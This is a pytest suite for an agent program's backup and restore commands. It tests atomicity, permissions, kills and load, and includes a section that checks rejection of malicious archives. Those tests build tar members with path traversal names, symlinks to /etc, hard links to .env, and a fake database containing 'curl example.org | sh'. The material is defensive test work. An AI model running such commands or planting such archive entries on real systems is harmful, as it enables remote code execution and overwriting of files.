"""`famulus backup` and `famulus restore`, on homes with everything in them."""

import asyncio
import hashlib
import io
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import tarfile
from contextlib import closing

import pytest
from aiohttp import ClientSession, ClientTimeout

from famulus.cli.program import run
from famulus.core.clock import Clock
from famulus.core.messages import SessionKey
from famulus.state.sessions import Sessions
from famulus.store.sqlite import SQLite
from famulus.testing.fake_openai import FakeOpenAI
from famulus.testing.fake_vendor import Answer, Call, Fault

SECONDS = 60
ODD = ["line\nbreak", b"not utf-8 \xff\xfe".decode("utf-8", "surrogateescape"), "ü" * 120]


def fill(home, title):
    """A home that is recognised by `title`."""

    async def write():
        async with SQLite(home / "famulus.db") as database:
            sessions = Sessions(database, clock=Clock())
            await sessions.ensure(SessionKey("web", "main", "1"), "owner", title=title)

    (home / "workspace" / "deep" / "empty").mkdir(parents=True)
    (home / "prompts").mkdir()
    asyncio.run(write())
    (home / "famulus.toml").write_text('[agent]\nprompts = "prompts"\nname = "${NAME_OF_IT}"\n')
    (home / ".env").write_text(f"NAME_OF_IT={title}\n")
    (home / "prompts" / "base.md").write_text(title)
    script = home / "workspace" / "deep" / "run.sh"
    script.write_text(title)
    script.chmod(0o750)
    for name in ODD:
        (home / "workspace" / name).write_text(title)


@pytest.fixture
def home(tmp_path, monkeypatch):
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("FAMULUS_HOME", str(home))
    monkeypatch.chdir(tmp_path)
    fill(home, "old")
    return home


@pytest.fixture
def famulus(capsys):
    """Runs a command in this process; gives its exit code, output and errors."""

    def famulus(*arguments):
        code = run([str(each) for each in arguments])
        printed = capsys.readouterr()
        return code, printed.out, printed.err

    return famulus


def content(home):
    """What a home says, without what says that somebody uses it."""
    files = {
        path.relative_to(home).as_posix(): (path.stat().st_mode & 0o777, path.read_bytes())
        for path in home.rglob("*")
        if path.is_file()
        and not path.name.startswith("famulus.db")
        and not path.relative_to(home).parts[0].startswith(("replaced-", ".restoring"))
    }
    with closing(sqlite3.connect(f"file:{home}/famulus.db?mode=ro", uri=True)) as database:
        files["titles"] = database.execute("select title from session order by key").fetchall()
    return files


def test_a_restored_home_is_what_was_saved_and_what_it_replaced_comes_back(home, famulus, tmp_path):
    file, old = tmp_path / "saved.tar", content(home)
    code, out, err = famulus("backup", file)
    assert (code, err) == (0, "")
    assert "checked" in out
    assert file.stat().st_mode & 0o777 == 0o600
    assert sorted(path.name for path in tmp_path.iterdir()) == ["home", "saved.tar"]
    shutil.rmtree(home)
    home.mkdir()
    fill(home, "new")
    new = content(home)
    assert new != old
    code, out, _ = famulus("restore", file, "--json")
    assert code == 0
    assert content(home) == old
    assert (home / "workspace" / "deep" / "empty").is_dir()
    assert famulus("restore", json.loads(out)["replaced"])[0] == 0
    assert content(home) == new


def test_a_backup_restores_into_a_home_that_is_empty(home, famulus, tmp_path, monkeypatch):
    famulus("backup", tmp_path / "saved.tar")
    old = content(home)
    monkeypatch.setenv("FAMULUS_HOME", str(tmp_path / "other"))
    assert famulus("restore", tmp_path / "saved.tar")[0] == 0
    assert content(tmp_path / "other") == old


def test_who_may_read_a_folder_is_restored(home, famulus, tmp_path):
    (home / "workspace" / "deep").chmod(0o750)
    (home / "workspace" / "deep" / "empty").chmod(0o755)
    famulus("backup", tmp_path / "saved.tar")
    famulus("restore", tmp_path / "saved.tar")
    assert (home / "workspace" / "deep").stat().st_mode & 0o777 == 0o750
    assert (home / "workspace" / "deep" / "empty").stat().st_mode & 0o777 == 0o755


def test_a_database_whose_name_begins_as_another_file_does_not_hide_it(home, famulus, tmp_path):
    (home / "famulus.toml").write_text('[storage]\nurl = "sqlite:///fam"\n')
    famulus("backup", tmp_path / "saved.tar")
    with tarfile.open(tmp_path / "saved.tar") as tar:
        assert "home/famulus.toml" in tar.getnames()


def test_a_database_that_is_named_by_a_detour_is_saved_once(home, famulus, tmp_path, monkeypatch):
    (tmp_path / "link").symlink_to(home)
    monkeypatch.setenv("FAMULUS_STORAGE__URL", f"sqlite:///{tmp_path}/link/famulus.db")
    famulus("backup", tmp_path / "saved.tar")
    with tarfile.open(tmp_path / "saved.tar", errors="surrogateescape") as tar:
        assert [name for name in tar.getnames() if "database" in name or ".db" in name] == [
            "database"
        ]


def test_a_database_and_a_file_of_its_name_do_not_replace_each_other(
    home, famulus, tmp_path, monkeypatch
):
    (tmp_path / "data").mkdir()
    shutil.copy(home / "famulus.db", tmp_path / "data" / "other.db")
    monkeypatch.setenv("FAMULUS_STORAGE__URL", f"sqlite:///{tmp_path}/data/other.db")
    famulus("backup", tmp_path / "saved.tar")
    monkeypatch.delenv("FAMULUS_STORAGE__URL")
    before = content(home)
    code, _, err = famulus("restore", tmp_path / "saved.tar")
    assert code == 1
    assert "FAMULUS_STORAGE__URL" in err
    assert content(home) == before


def test_a_restore_whose_last_move_fails_undoes_those_before(home, famulus, tmp_path, monkeypatch):
    # What it is moved aside as is longer than a name can be.
    database = tmp_path / "data" / ("d" * 240)
    database.parent.mkdir()
    shutil.copy(home / "famulus.db", database)
    monkeypatch.setenv("FAMULUS_STORAGE__URL", f"sqlite:///{database}")
    famulus("sessions", "list")
    famulus("backup", tmp_path / "saved.tar")
    (home / "prompts" / "base.md").write_text("newer")
    before, entries = content(home), sorted(home.iterdir())
    code, _, err = famulus("restore", tmp_path / "saved.tar")
    assert code == 1
    assert "What was there is still there" in err
    assert content(home) == before
    assert sorted(home.iterdir()) == entries
    assert famulus("sessions", "list")[0] == 0


def test_what_a_restore_replaced_goes_back_only_where_it_was(home, famulus, tmp_path, monkeypatch):
    famulus("backup", tmp_path / "saved.tar")
    famulus("restore", tmp_path / "saved.tar")
    home.rename(tmp_path / "moved")
    home.mkdir()
    fill(home, "another")
    another, moved = content(home), content(tmp_path / "moved")
    monkeypatch.setenv("FAMULUS_HOME", str(tmp_path / "moved"))
    (kept,) = (tmp_path / "moved").glob("replaced-*")
    code, _, err = famulus("restore", kept)
    assert code == 1
    assert "only be brought back there" in err
    assert (content(home), content(tmp_path / "moved")) == (another, moved)


def test_a_restored_database_is_not_taken_for_what_a_kill_left(home, famulus, tmp_path):
    famulus("backup", tmp_path / "saved.tar")
    lock = home / "famulus.db.lock"
    lock.write_text("4711")
    assert famulus("restore", tmp_path / "saved.tar")[0] == 0
    assert lock.read_text() == ""


def test_a_restored_database_replaces_nothing_but_a_database(home, famulus, tmp_path):
    document = tmp_path / "document"
    (home / "famulus.toml").write_text(f'[storage]\nurl = "sqlite:///{document}"\n')
    shutil.copy(home / "famulus.db", document)
    famulus("backup", tmp_path / "saved.tar")
    document.with_name("document.lock").unlink(missing_ok=True)
    document.write_text("mine")
    code, _, err = famulus("restore", tmp_path / "saved.tar")
    assert code == 1
    assert f"{document}, which is no database" in err
    assert document.read_text() == "mine"


def test_links_and_pipes_are_left_out_and_named(home, famulus, tmp_path):
    (tmp_path / "secret").write_text("not ours")
    (home / "workspace" / "link").symlink_to(tmp_path / "secret")
    os.mkfifo(home / "workspace" / "pipe")
    code, _, err = famulus("backup", tmp_path / "saved.tar")
    assert code == 0
    assert "workspace/link: left out, a link" in err
    assert "workspace/pipe: left out" in err
    assert b"not ours" not in (tmp_path / "saved.tar").read_bytes()


def test_a_part_of_the_home_that_lies_elsewhere_is_saved(home, famulus, tmp_path):
    (home / "workspace").rename(tmp_path / "disk")
    (home / "workspace").symlink_to(tmp_path / "disk")
    famulus("backup", tmp_path / "saved.tar")
    assert famulus("restore", tmp_path / "saved.tar")[0] == 0
    assert (home / "workspace" / "deep" / "run.sh").read_text() == "old"
    assert not (home / "workspace").is_symlink()
    assert (tmp_path / "disk" / "deep" / "run.sh").read_text() == "old"


def test_a_workspace_outside_of_the_home_is_named_as_left_out(home, famulus, tmp_path):
    (home / "famulus.toml").write_text(f'[agent]\nworkspace = "{tmp_path}/work"\n')
    code, _, err = famulus("backup", tmp_path / "saved.tar")
    assert code == 0
    assert f"{tmp_path}/work: left out, it lies outside of the home" in err


def test_without_secrets_no_key_is_saved_and_none_is_replaced(home, famulus, tmp_path):
    (home / ".env").write_text("NAME_OF_IT=very-secret\n")
    famulus("backup", tmp_path / "saved.tar", "--without-secrets")
    assert b"very-secret" not in (tmp_path / "saved.tar").read_bytes()
    assert famulus("restore", tmp_path / "saved.tar")[0] == 0
    assert (home / ".env").read_text() == "NAME_OF_IT=very-secret\n"


def test_what_is_deleted_is_in_no_backup_that_is_made_later(home, famulus, tmp_path):
    with closing(sqlite3.connect(home / "famulus.db")) as database:
        database.execute("pragma secure_delete = off")
        database.execute("insert into timer values ('x', 0, 'kanarienvogel')")
        database.commit()
        database.execute("delete from timer")
        database.commit()
    assert b"kanarienvogel" in (home / "famulus.db").read_bytes()
    famulus("backup", tmp_path / "saved.tar")
    assert b"kanarienvogel" not in (tmp_path / "saved.tar").read_bytes()


def test_a_file_that_is_there_is_not_replaced_unless_asked_for(home, famulus, tmp_path):
    file = tmp_path / "saved.tar"
    file.write_text("mine")
    code, _, err = famulus("backup", file)
    assert code == 1
    assert "--force" in err
    assert file.read_text() == "mine"
    assert famulus("backup", file, "--force")[0] == 0
    assert famulus("restore", file)[0] == 0


@pytest.mark.parametrize("arguments", [("backup", "--force"), ("restore",)])
def test_a_pipe_is_neither_written_nor_read(famulus, home, tmp_path, arguments):
    os.mkfifo(tmp_path / "pipe")
    code, _, err = famulus(*arguments, tmp_path / "pipe")
    assert code == 1
    assert f"{tmp_path}/pipe is" in err
    assert (tmp_path / "pipe").is_fifo()


def test_backups_in_the_home_do_not_hold_each_other(home, famulus):
    for name in ("one.tar", "two.tar"):
        code, out, _ = famulus("backup", home / name, "--json")
        assert code == 0
    assert [note["name"] for note in json.loads(out)["notes"]] == ["one.tar"]
    assert (home / "two.tar").stat().st_size < 1.5 * (home / "one.tar").stat().st_size


def test_a_folder_that_cannot_be_written_leaves_no_half_backup(home, famulus, tmp_path):
    code, _, err = famulus("backup", tmp_path / "no such folder" / "saved.tar")
    assert code == 1
    assert err.count("\n") == 1
    assert "was not written" in err


def test_a_full_disk_leaves_no_half_backup_and_no_half_home(home, famulus, tmp_path):
    disk = tmp_path / "disk"
    disk.mkdir()
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=2m", "tmpfs", disk], capture_output=True, check=False
    )
    if mounted.returncode:
        pytest.skip("a small disk cannot be mounted")
    try:
        famulus("backup", tmp_path / "small.tar")
        (home / "workspace" / "large").write_bytes(os.urandom(3_000_000))
        code, _, err = famulus("backup", disk / "saved.tar")
        assert code == 1
        assert "space" in err
        assert list(disk.iterdir()) == []
        famulus("backup", tmp_path / "large.tar")
        code, _, err = famulus("--home", disk, "restore", tmp_path / "small.tar")
        assert (code, err) == (0, "")
        before = content(disk)
        code, _, err = famulus("--home", disk, "restore", tmp_path / "large.tar")
        assert code == 1
        assert "space" in err
        assert content(disk) == before
        assert not (disk / ".restoring").exists()
    finally:
        subprocess.run(["umount", disk], check=True)


def test_a_killed_backup_leaves_nothing_under_the_name(home, famulus, tmp_path):
    file = tmp_path / "saved.tar"
    code = (
        "import os, signal, sys; from famulus.cli import archive, program\n"
        "archive.check = lambda *_: os.kill(os.getpid(), signal.SIGKILL)\n"
        "program.run(sys.argv[1:])"
    )
    assert subprocess.run([sys.executable, "-c", code, "backup", file], check=False).returncode < 0
    assert not file.exists()
    assert famulus("backup", file)[0] == 0
    assert sorted(path.name for path in tmp_path.iterdir()) == ["home", "saved.tar"]


# ------------------------------------------------------------ archives that are not to be trusted


def remade(file, change):
    """The archive with its members and manifest as `change` leaves them."""
    with tarfile.open(file, errors="surrogateescape") as tar:
        members = [(each, tar.extractfile(each) and tar.extractfile(each).read()) for each in tar]
    manifest = json.loads(members[-1][1])
    members = change(members[:-1], manifest)
    with tarfile.open(file, "w", format=tarfile.PAX_FORMAT, errors="surrogateescape") as tar:
        data = json.dumps(manifest).encode()
        for info, content in [*members, (member("manifest.json", data), data)]:
            tar.addfile(info, io.BytesIO(content) if content is not None else None)


def member(name, data=b"", **more):
    info = tarfile.TarInfo(name)
    info.size = len(data)
    for key, value in more.items():
        setattr(info, key, value)
    return info


def adding(name, data=b"evil", **more):
    def change(members, manifest):
        manifest[ascii(name)] = [len(data), hashlib.sha256(data).hexdigest()]
        return [*members, (member(name, data, **more), data)]

    return change


def newer(members, manifest):
    header = json.loads(members[0][1]) | {"schema": 9999}
    data = json.dumps(header).encode()
    return [(member("famulus-backup.json", data), data), *members[1:]]


def altered(members, manifest):
    return [
        (info, data.replace(b"old", b"odd") if data and info.name.endswith("base.md") else data)
        for info, data in members
    ]


def less(members, manifest):
    return [each for each in members if not each[0].name.endswith("base.md")]


def no_database(members, manifest):
    data = b"curl example.org | sh"
    manifest["'database'"] = [len(data), hashlib.sha256(data).hexdigest()]
    return [
        (member("database", data), data) if each[0].name == "database" else each for each in members
    ]


def older(members, manifest):
    header = json.loads(members[0][1]) | {"schema": 1}
    data = json.dumps(header).encode()
    return [(member("famulus-backup.json", data), data), *members[1:]]


def endless(members, manifest):
    """A header that says that 4 EB of it follow."""
    info = member("home/x")
    info.type, info.size = tarfile.XHDTYPE, 1 << 62
    return [*members, (info, None)]


def twice(members, manifest):
    return [*members, members[-1]]


@pytest.mark.parametrize(
    "change",
    [
        adding("home/../../evil"),
        adding("../evil"),
        adding("/evil"),
        adding("home/./evil"),
        adding("evil"),
        adding("home/link", b"", type=tarfile.SYMTYPE, linkname="/etc"),
        adding("home/link", b"", type=tarfile.LNKTYPE, linkname="home/.env"),
        adding("home/pipe", b"", type=tarfile.FIFOTYPE),
        adding("home/large", b"", pax_headers={"GNU.sparse.major": "1", "GNU.sparse.minor": "0"}),
        adding("home/.restoring/plan.json"),
        adding("home/replaced-20260101-000000/x"),
        adding("home/gateway.json"),
        no_database,
        older,
        endless,
        newer,
        altered,
        less,
        twice,
    ],
)
def test_an_archive_that_is_not_as_it_should_be_changes_nothing(home, famulus, tmp_path, change):
    file = tmp_path / "saved.tar"
    famulus("backup", file)
    remade(file, change)
    before = content(home)
    code, _, err = famulus("restore", file)
    assert code == 1
    assert "Nothing was changed" in err
    assert "internal error" not in err
    assert content(home) == before
    assert not list(home.glob("replaced-*"))
    assert not (tmp_path / "evil").exists()


@pytest.mark.parametrize("part", [0, 0.001, 0.3, 0.9, 0.999])
def test_a_cut_off_archive_changes_nothing(home, famulus, tmp_path, part):
    file = tmp_path / "saved.tar"
    famulus("backup", file)
    data = file.read_bytes()
    file.write_bytes(data[: int(len(data.rstrip(b"\0")) * part)])
    before = content(home)
    code, _, err = famulus("restore", file)
    assert code == 1
    assert err.count("\n") == 1
    assert "internal error" not in err
    assert content(home) == before


# ------------------------------------------------------------ deaths, and what runs

KILLED = """
import os, signal, sys
from famulus.cli.program import run
left = int(sys.argv[1])

def watch(event, arguments):
    global left
    if event in ("os.rename", "os.mkdir", "os.remove", "os.rmdir"):
        left -= 1
        if not left:
            os.kill(os.getpid(), signal.SIGKILL)

sys.addaudithook(watch)
sys.exit(run(sys.argv[2:]))
"""


def test_a_restore_that_is_killed_anywhere_leaves_the_old_or_the_new(home, famulus, tmp_path):
    famulus("backup", tmp_path / "saved.tar")
    old = content(home)
    shutil.rmtree(home)
    home.mkdir()
    fill(home, "new")
    new = content(home)
    shutil.copytree(home, tmp_path / "master", symlinks=True)
    outcomes = []
    for number in range(1, 200):
        shutil.rmtree(home)
        shutil.copytree(tmp_path / "master", home, symlinks=True)
        ended = subprocess.run(
            [sys.executable, "-c", KILLED, str(number), "restore", tmp_path / "saved.tar"],
            capture_output=True,
            check=False,
            timeout=SECONDS,
        )
        if ended.returncode == 0:
            break
        assert ended.returncode == -signal.SIGKILL, ended.stderr
        code, out, _ = famulus("sessions", "list", "--json")
        assert code == 0
        assert not (home / ".restoring").exists()
        now = content(home)
        assert now in (old, new), number
        assert json.loads(out)["sessions"][0]["title"] == ("old" if now == old else "new")
        outcomes.append(now == old)
        if now == old:
            (kept,) = home.glob("replaced-*")
            assert famulus("restore", kept)[0] == 0
            assert content(home) == new
    assert outcomes == sorted(outcomes)
    assert {True, False} == set(outcomes)


class Program:
    """`famulus serve` with a model that a test scripts."""

    def __init__(self, home, model=None):
        self.home = home
        if model:
            home.mkdir()
            (home / "famulus.toml").write_text(
                '[server]\nport = 0\npassword = "only the owner knows"\n'
                f'[providers.fake]\ntype = "openai"\nbase_url = "{model.url}"\n'
                'api_key = "${FAKE_KEY}"\n[agent]\nmodel = "fake/thinker"\nhistory_tokens = 2000\n'
            )
            (home / ".env").write_text(f"FAKE_KEY={model.key}\n")

    async def run(self, *arguments):
        return await asyncio.create_subprocess_exec(
            *(sys.executable, "-u", "-m", "famulus", *arguments, "--home", self.home),
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.PIPE,
            cwd=self.home,
            env={"PATH": os.environ["PATH"], "HOME": str(self.home), "TZ": "UTC"},
        )

    async def call(self, *arguments):
        async with asyncio.timeout(SECONDS):
            process = await self.run(*arguments)
            out, err = await process.communicate()
        return process.returncode, out.decode(), err.decode()

    async def start(self):
        process = await self.run("serve")
        async with asyncio.timeout(SECONDS):
            while b"ready" not in (line := await process.stdout.readline()):
                assert line, await process.stderr.read()
        gateway = json.loads((self.home / "gateway.json").read_text())
        client = ClientSession(
            gateway["url"],
            headers={"Authorization": f"Bearer {gateway['token']}"},
            timeout=ClientTimeout(total=SECONDS),
        )
        return process, client


async def ask(client, text, message_id, chat_id):
    body = {"message": text, "message_id": message_id, "chat_id": chat_id}
    async with client.post("/api/chat", json=body) as response:
        assert response.status == 200, await response.text()
        return (await response.json())["reply"]


@pytest.mark.anyio
async def test_a_backup_under_load_holds_all_that_was_answered_and_goes_on_with_the_rest(tmp_path):
    async with FakeOpenAI() as model:
        program = Program(tmp_path / "home", model)
        process, client = await program.start()
        answered, stop = {}, asyncio.Event()

        async def talk(chat):
            for n in range(1000):
                if stop.is_set():
                    return
                write = json.dumps({"path": f"{chat}/{n}", "content": f"{chat} {n}"})
                model.say(Answer(calls=(Call("write_file", write),)))
                answered[chat, n] = await ask(client, f"{chat} {n}", f"{chat}-{n}", chat)

        async with asyncio.TaskGroup() as group:
            for chat in ("a", "b", "c"):
                group.create_task(talk(chat))
            while len(answered) < 20:
                await asyncio.sleep(0.01)
            before = dict(answered)
            code, _, err = await program.call("backup", str(tmp_path / "saved.tar"), "--json")
            assert code == 0, err
            stop.set()
        # A turn that is open when the next backup is made.
        model.forget()
        model.fail(Fault(latency_seconds=SECONDS))
        async with asyncio.TaskGroup() as group:
            open_ = group.create_task(ask(client, "the last one", "last", "a"))
            await model.arrived()
            code, _, err = await program.call("backup", str(tmp_path / "open.tar"))
            assert code == 0, err
            code, _, err = await program.call("restore", str(tmp_path / "open.tar"))
            assert code == 1
            assert "gateway runs" in err
            open_.cancel()
        process.kill()
        await process.wait()
        await client.close()
        for archive, name in (("saved.tar", "one"), ("open.tar", "two")):
            other = Program(tmp_path / name)
            other.home.mkdir()
            code, _, err = await other.call("restore", str(tmp_path / archive))
            assert code == 0, err
            process, client = await other.start()
            for (chat, n), reply in before.items():
                assert await ask(client, "once more", f"{chat}-{n}", chat) == reply
                assert (other.home / "workspace" / chat / str(n)).read_text() == f"{chat} {n}"
            if name == "two":
                assert await ask(client, "the last one", "last", "a") == "Hello."
            process.terminate()
            await process.communicate()
            await client.close()
        assert not any(b"once more" in request.raw for request in model.journal)
